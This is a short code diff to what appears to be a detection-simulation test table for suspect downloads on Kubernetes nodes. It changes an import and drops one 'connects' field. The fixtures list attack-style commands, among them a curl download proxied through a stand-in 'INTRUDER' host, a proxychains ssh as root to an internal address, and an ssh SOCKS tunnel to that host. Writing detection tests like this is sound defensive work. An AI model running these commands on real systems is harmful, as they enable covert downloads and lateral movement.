@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from simulation.attacks.scene import Started
+from simulation.attacks.shells import Started
 from simulation.attacks.tables import Place, encoded, line, run, table
 
 SOURCE = "K8S.NODE_SuspectDownload"
@@ -106,7 +106,6 @@ table(
             "ALL_PROXY=socks5://INTRUDER:1080 curl -s https://files.example/a",
             runs=["curl -s https://files.example/a"],
             at=Place.EXEC,
-            connects=("INTRUDER", 1080),
         ),
         run("proxychains4 -q ssh root@10.42.0.9", runs=["ssh root@10.42.0.9"], at=Place.HOST),
         run("ssh -N -D 1080 deploy@INTRUDER", at=Place.HOST, also=(FORWARDING,), connects=("INTRUDER", 22)),
